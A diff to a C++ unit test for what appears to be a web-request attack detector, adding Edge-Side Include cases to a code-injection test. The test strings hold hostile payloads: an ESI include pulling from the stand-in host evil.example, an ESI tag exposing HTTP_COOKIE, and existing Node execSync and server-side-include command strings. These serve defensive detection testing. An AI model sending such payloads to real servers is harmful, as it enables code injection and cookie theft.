@@ -550,6 +550,12 @@ TEST_F(DetectorsTest, CodeInjection) {
   EXPECT_TRUE(
       detects(query("require('child_process').execSync('id')"), AttackClass::CodeInjection));
   EXPECT_TRUE(detects(query("%3C!--%23exec%20cmd=%22ls%22--%3E"), AttackClass::CodeInjection));
+  // Edge-side includes: a CDN or cache that processes ESI fetches or evaluates them.
+  EXPECT_TRUE(detects(query("%3Cesi%3Ainclude%20src%3D%22http%3A%2F%2Fevil.example%2F%22%2F%3E"),
+                      AttackClass::CodeInjection));
+  EXPECT_TRUE(detects(json(R"({"q":"<esi:vars>$(HTTP_COOKIE)</esi:vars>"})"),
+                      AttackClass::CodeInjection));
+  EXPECT_TRUE(clean(query("esi%3A+edge+side+includes+explained")));
   EXPECT_TRUE(clean(query("print+the+invoice")));
   EXPECT_TRUE(clean(json(R"({"note":"system (re)design meeting at 10"})")));
 }
